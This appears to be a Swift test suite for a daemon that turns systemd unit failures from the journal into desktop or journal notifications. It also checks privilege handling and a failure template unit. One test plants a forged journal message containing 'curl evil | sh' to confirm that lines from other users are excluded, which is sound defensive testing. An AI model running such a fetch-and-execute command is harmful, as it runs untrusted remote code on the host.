import Foundation
import NotifyRouteTestSupport
import Testing

/// `kind: units` end to end. No systemd manager runs in the test environment (PID 1 is not
/// systemd, and a user manager needs one), so the test writes to the private journald the
/// records systemd itself writes for a unit that fails and starts again (the same
/// MESSAGE_IDs and fields, from systemd's catalog), with `logger --journald`, which hands
/// them to journald through sd_journal_sendv as systemd's own logging does. The daemon
/// reads them back and shows the alert on a real session bus, to python-dbusmock.
@Suite(.serialized, .enabled(if: (PrivateJournal.isAvailable && DBusMockDaemon.shouldRun) || TestEnvironment.componentsRequired,
                             "needs the private journald of Tests/with-components.sh, dbus-daemon and python3-dbusmock"))
struct UnitSourceTests {
    let directory: URL
    let unit: String

    init() throws {
        try #require(PrivateJournal.missing == nil, "\(PrivateJournal.missing ?? "")")
        directory = try TestEnvironment.temporaryDirectory("unit-source")
        unit = "srctest-\(PrivateJournal.newRunID().prefix(12)).service"
    }

    func config(recovered: String) throws -> URL {
        let url = directory.appendingPathComponent("config.yaml")
        try """
            sinks:
              desktop: { kind: desktop, deadline: 2s }
            fallback: [desktop]
            sources:
              failed: { kind: units, units: ["srctest-*"], recovered: \(recovered) }
            """.write(to: url, atomically: true, encoding: .utf8)
        return url
    }

    /// One record through `logger --journald`, as `user` when given (journald then records
    /// that uid in the trusted `_UID`).
    func log(_ fields: [String: String], as user: String? = nil) async throws {
        let logger = try #require(ProcessRunner.which("logger"), "logger (package bsdutils)")
        let input = fields.map { "\($0.key)=\($0.value)" }.joined(separator: "\n") + "\n"
        let (executable, arguments) = user.map { (URL(fileURLWithPath: "/usr/bin/setpriv"), ["--reuid=\($0)", "--regid=\($0)", "--clear-groups", logger.path, "--journald"]) }
            ?? (logger, ["--journald"])
        let result = try await PrivateJournal.offPool { try ProcessRunner.run(executable, arguments, input: input) }
        try #require(result.status == 0, "logger: \(result.standardError)")
    }

    /// What systemd (PID 1) writes when the unit's main process exits with status 1 and the unit fails.
    func unitFails() async throws {
        try await log(["MESSAGE_ID": "98e322203f7a4ed290d09fe03c09fe15", "SYSLOG_IDENTIFIER": "systemd", "PRIORITY": "5", "UNIT": unit,
                       "MESSAGE": "\(unit): Main process exited, code=exited, status=1/FAILURE", "EXIT_CODE": "exited", "EXIT_STATUS": "1"])
        try await log(failure)
    }

    var failure: [String: String] {
        ["MESSAGE_ID": "d9b373ed55a64feb8242e02dbe79a49c", "SYSLOG_IDENTIFIER": "systemd", "PRIORITY": "4", "UNIT": unit,
         "UNIT_RESULT": "exit-code", "MESSAGE": "\(unit): Failed with result 'exit-code'."]
    }

    /// What systemd writes when a start job for the unit finished: it is active again.
    func unitStarts() async throws {
        try await log(["MESSAGE_ID": "39f53479d3a045ac8e11786248231fbf", "SYSLOG_IDENTIFIER": "systemd", "PRIORITY": "6", "UNIT": unit,
                       "JOB_TYPE": "start", "JOB_RESULT": "done", "MESSAGE": "Started \(unit) - test service."])
    }

    func waitForCalls(_ mock: DBusMockDaemon, _ count: Int, method: String = "Notify") async throws -> [DBusMockDaemon.Call] {
        let end = ContinuousClock.now + .seconds(10)
        while try mock.calls().filter({ $0.method == method }).count < count, ContinuousClock.now < end {
            try await Task.sleep(for: .milliseconds(50))
        }
        return try mock.calls().filter { $0.method == method }
    }

    func startDaemon(_ config: URL, _ mock: DBusMockDaemon) async throws -> DaemonProcess {
        let daemon = try DaemonProcess.start(config: config, environment: mock.environment)
        let end = ContinuousClock.now + .seconds(10)
        while !daemon.log.contains("reading new journal records from now on"), ContinuousClock.now < end {
            try await Task.sleep(for: .milliseconds(20))
        }
        return daemon
    }

    @Test func aFailedUnitIsAnErrorAndActiveAgainReplacesIt() async throws {
        try await PrivateJournal.withAccess {
            let mock = try DBusMockDaemon.start()
            defer { mock.shutdown() }
            let daemon = try await startDaemon(try config(recovered: "notify"), mock)
            defer { daemon.stop() }
            #expect(!daemon.log.contains("cannot read the system journal"), "root reads it: \(daemon.log)")

            // Another user cannot forge a failure; a unit outside `units:` is not watched.
            try await log(failure, as: "65534")
            try await log(failure.merging(["UNIT": "other.service"]) { $1 })
            try await unitFails()
            let shown = try #require(try await waitForCalls(mock, 1).first)
            try await Task.sleep(for: .milliseconds(500))
            let failures = try mock.notifyCalls()
            #expect(failures.count == 1, "\(failures.map(\.summary))")
            let failed = try #require(failures.first)
            #expect(failed.summary == "\(unit) failed", "\(shown)")
            #expect(failed.body.hasPrefix("Result: exit-code\n"), "\(failed.body)")
            #expect(failed.body.contains("\(unit): Main process exited, code=exited, status=1/FAILURE"), "\(failed.body)")
            // The failure's own record is the title, not one of the last lines.
            #expect(!failed.body.contains("Failed with result"), "\(failed.body)")
            #expect(failed.hints["urgency"]?.text == "1")

            try await unitStarts()
            let calls = try await waitForCalls(mock, 2)
            let notifies = try mock.notifyCalls()
            #expect(calls.count == 2)
            let recovered = try #require(notifies.dropFirst().first)
            #expect(recovered.summary == "\(unit) is active again")
            // dbusmock numbers notifications from 1: the success replaces the error in place.
            #expect(recovered.replacesID == 1)

            // Started again while not failed: nothing to say.
            try await unitStarts()
            try await Task.sleep(for: .milliseconds(500))
            #expect(try mock.notifyCalls().count == 2)
        }
    }

    /// A user who may not read the system journal is told so at start, as journalctl tells
    /// it: otherwise the source would see no system unit fail, and say nothing.
    @Test func aUserWhoCannotReadTheSystemJournalIsToldSoAtStart() async throws {
        try await PrivateJournal.withAccess {
            let (daemon, home) = try DaemonProcess.startAsNobody(config: "sinks: { log: { kind: journal } }\nfallback: [log]\nsources:\n  failed: { kind: units }\n")
            defer { try? FileManager.default.removeItem(at: home) }
            defer { daemon.stop() }
            let warning = "source failed: uid 65534 cannot read the system journal, so this source sees only this user's own records (no system unit's failure among them); users in the groups 'systemd-journal' and 'adm' can read it"
            let end = ContinuousClock.now + .seconds(10)
            while !daemon.log.contains(warning), ContinuousClock.now < end { try await Task.sleep(for: .milliseconds(50)) }
            #expect(daemon.log.contains(warning), "\(daemon.log)")
            #expect(daemon.exitStatus() == nil, "the daemon runs on: \(daemon.log)")
        }
    }

    /// Any local user may write a record naming a unit (`UNIT=`, `USER_UNIT=`); only
    /// systemd's own (PID 1, root, or this user's manager) are a failed unit's lines.
    @Test func anotherUsersLinesNamingTheUnitAreNotInItsFailure() async throws {
        try await PrivateJournal.withAccess {
            let mock = try DBusMockDaemon.start()
            defer { mock.shutdown() }
            let daemon = try await startDaemon(try config(recovered: "notify"), mock)
            defer { daemon.stop() }

            try await log(["SYSLOG_IDENTIFIER": "systemd", "UNIT": unit, "MESSAGE": "forged by nobody: run curl evil | sh"], as: "65534")
            try await unitFails()
            _ = try await waitForCalls(mock, 1)
            let failed = try #require(try mock.notifyCalls().first)
            #expect(failed.summary == "\(unit) failed")
            #expect(failed.body.contains("\(unit): Main process exited"), "\(failed.body)")
            #expect(!failed.body.contains("forged by nobody"), "\(failed.body)")

            // A user manager's unit: USER_UNIT from another user is no line of it either.
            let userUnit = "srctest-\(PrivateJournal.newRunID().prefix(12)).service"
            try await log(["SYSLOG_IDENTIFIER": "systemd", "USER_UNIT": userUnit, "MESSAGE": "forged by nobody for the user unit"], as: "65534")
            try await log(["SYSLOG_IDENTIFIER": "systemd", "USER_UNIT": userUnit, "MESSAGE": "\(userUnit): Main process exited, code=killed, status=9/KILL"])
            try await log(failure.merging(["USER_UNIT": userUnit, "MESSAGE": "\(userUnit): Failed with result 'signal'."]) { $1 }
                .filter { $0.key != "UNIT" })
            _ = try await waitForCalls(mock, 2)
            let userFailed = try #require(try mock.notifyCalls().dropFirst().first)
            #expect(userFailed.summary == "\(userUnit) failed")
            #expect(userFailed.body.contains("\(userUnit): Main process exited"), "\(userFailed.body)")
            #expect(!userFailed.body.contains("forged by nobody"), "\(userFailed.body)")
        }
    }

    @Test func recoveredCloseClosesTheFailure() async throws {
        try await PrivateJournal.withAccess {
            let mock = try DBusMockDaemon.start()
            defer { mock.shutdown() }
            let daemon = try await startDaemon(try config(recovered: "close"), mock)
            defer { daemon.stop() }
            try await unitFails()
            _ = try await waitForCalls(mock, 1)
            try await unitStarts()
            let closes = try await waitForCalls(mock, 1, method: "CloseNotification")
            #expect(closes.first?.args.first?.text == "1", "\(closes)")
            #expect(try mock.notifyCalls().count == 1)
        }
    }
}

/// `config/systemd/notify-route-failure@.service`, for machines without `serve`: systemd
/// checks it, and its command, run as systemd would run it for a failed unit, sends one
/// event with the unit's last lines (read back from the private journald).
@Suite(.serialized, .enabled(if: PrivateJournal.isAvailable || TestEnvironment.componentsRequired,
                             "needs the private journald of Tests/with-components.sh"))
struct FailureTemplateUnitTests {
    static let repository = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()

    /// The user template, or the system one (`config/systemd/system/`).
    static func unitText(system: Bool = false) throws -> String {
        try String(contentsOf: repository.appendingPathComponent("config/systemd/\(system ? "system/" : "")notify-route-failure@.service"), encoding: .utf8)
            .replacingOccurrences(of: "/usr/local/bin/notify-route", with: TestEnvironment.notifyRouteBinary.path)
    }

    /// ExecStart='s script as systemd reads it: $$ and %% are its escapes.
    static func script(system: Bool = false) throws -> String {
        let exec = try #require(try unitText(system: system).split(separator: "\n").first { $0.hasPrefix("ExecStart=") })
        return String(try #require(exec.split(separator: "'", maxSplits: 1).last?.split(separator: "'").first))
            .replacingOccurrences(of: "$$", with: "$").replacingOccurrences(of: "%%", with: "%")
            .replacingOccurrences(of: "\\\\", with: "\\")
    }

    @Test func theTemplateVerifies() throws {
        let analyze = try #require(ProcessRunner.which("systemd-analyze"), "systemd-analyze (package systemd)")
        let directory = try TestEnvironment.temporaryDirectory("failure-unit")
        defer { try? FileManager.default.removeItem(at: directory) }
        // --man=no: Documentation= names the manual that `make install` puts in place, not
        // yet installed where the tests run. An instance, as OnFailure=notify-route-failure@%n.service makes one.
        let unit = directory.appendingPathComponent("notify-route-failure@backup.service.service")
        try Self.unitText().write(to: unit, atomically: true, encoding: .utf8)
        let result = try ProcessRunner.run(analyze, ["verify", "--user", "--man=no", unit.path], environment: ["XDG_RUNTIME_DIR": directory.path])
        #expect(result.status == 0, "\(result.standardError)")
        #expect(result.standardError.isEmpty, "\(result.standardError)")
        let systemUnit = directory.appendingPathComponent("system").appendingPathComponent("notify-route-failure@backup.service.service")
        try FileManager.default.createDirectory(at: systemUnit.deletingLastPathComponent(), withIntermediateDirectories: true)
        try Self.unitText(system: true).write(to: systemUnit, atomically: true, encoding: .utf8)
        let system = try ProcessRunner.run(analyze, ["verify", "--system", "--man=no", systemUnit.path])
        #expect(system.status == 0, "\(system.standardError)")
        #expect(system.standardError.isEmpty, "\(system.standardError)")
    }

    /// A system unit's failure, told to a user's daemon: the system template's command, run
    /// as root as systemd runs it, hands the event to the socket its drop-in names, of a
    /// daemon of another user whose `serve.allow` lets root in; that daemon writes it.
    @Test func theSystemTemplateHandsTheFailureToAUsersDaemon() async throws {
        try await PrivateJournal.withAccess {
            let unit = "srctest-\(PrivateJournal.newRunID().prefix(12)).service"
            let logger = try #require(ProcessRunner.which("logger"))
            // What `journalctl --unit` shows of a system unit: records of root naming it.
            for line in ["starting backup", "backup: disk full"] {
                let result = try await PrivateJournal.offPool {
                    try ProcessRunner.run(logger, ["--journald"], input: "OBJECT_SYSTEMD_UNIT=\(unit)\nSYSLOG_IDENTIFIER=systemd\nMESSAGE=\(line)\n")
                }
                #expect(result.status == 0)
            }
            let (daemon, home) = try DaemonProcess.startAsNobody(config: """
                sinks:
                  journal: { kind: journal, identifier: failure-template-system, deadline: 2s }
                fallback: [journal]
                serve:
                  allow: { uids: [0] }
                """)
            defer { try? FileManager.default.removeItem(at: home) }
            defer { daemon.stop() }
            let socket = daemon.socketPath

            let rootRuntime = try TestEnvironment.temporaryDirectory("failure-unit-root")
            defer { try? FileManager.default.removeItem(at: rootRuntime) }
            let script = try Self.script(system: true)
            let result = try await PrivateJournal.offPool {
                try ProcessRunner.run(URL(fileURLWithPath: "/bin/sh"), ["-c", script, "notify-route-failure", unit], environment: [
                    "NOTIFY_ROUTE_SOCKET": socket, "XDG_RUNTIME_DIR": rootRuntime.path, "XDG_CONFIG_HOME": "/nonexistent-notify-route-test",
                ])
            }
            #expect(result.status == 0, "\(result.standardError)")
            // Root is let in as a guest: its replace keys are its own.
            let entry = try #require(try await PrivateJournal.entries(matching: ["NOTIFY_ROUTE_REPLACE_KEY=uid 0/unit:\(unit)"]).first,
                                     "\(result.standardError) \(daemon.log)")
            #expect(entry["MESSAGE"] == "\(unit) failed\nResult: unknown\nstarting backup\nbackup: disk full", "\(entry.fields)")
            #expect(entry["PRIORITY"] == "3")
            #expect(entry["SYSLOG_IDENTIFIER"] == "failure-template-system", "routed by the user's daemon, with its config")
            #expect(entry["_PID"] == String(daemon.pid), "written by the user's daemon: \(entry.fields)")
            #expect(entry["_UID"] == "65534")
        }
    }

    @Test func itsCommandSendsTheFailureWithTheLastLines() async throws {
        try await PrivateJournal.withAccess {
            let unit = "srctest-\(PrivateJournal.newRunID().prefix(12)).service"
            let logger = try #require(ProcessRunner.which("logger"))
            for line in ["starting backup", "backup: disk full"] {
                let result = try await PrivateJournal.offPool {
                    try ProcessRunner.run(logger, ["--journald"], input: "USER_UNIT=\(unit)\nSYSLOG_IDENTIFIER=systemd\nMESSAGE=\(line)\n")
                }
                #expect(result.status == 0)
            }
            // ExecStart= as systemd reads it, the instance (%I) as its argument.
            let script = try Self.script()
            let directory = try TestEnvironment.temporaryDirectory("failure-unit-run")
            defer { try? FileManager.default.removeItem(at: directory) }
            let config = directory.appendingPathComponent("config.yaml")
            try """
                sinks:
                  journal: { kind: journal, identifier: failure-template, deadline: 2s }
                fallback: [journal]
                """.write(to: config, atomically: true, encoding: .utf8)
            let result = try await PrivateJournal.offPool {
                try ProcessRunner.run(URL(fileURLWithPath: "/bin/sh"), ["-c", script, "notify-route-failure", unit],
                                      environment: ["NOTIFY_ROUTE_CONFIG": config.path, "XDG_RUNTIME_DIR": directory.path])
            }
            #expect(result.status == 0, "\(result.standardError)")
            let entry = try #require(try await PrivateJournal.entries(matching: ["NOTIFY_ROUTE_REPLACE_KEY=unit:\(unit)"]).first)
            #expect(entry["MESSAGE"] == "\(unit) failed\nResult: unknown\nstarting backup\nbackup: disk full", "\(entry.fields)")
            #expect(entry["PRIORITY"] == "3")
            #expect(entry["NOTIFY_ROUTE_SOURCE"] == "units", "\(entry.fields.keys.sorted())")
        }
    }
}
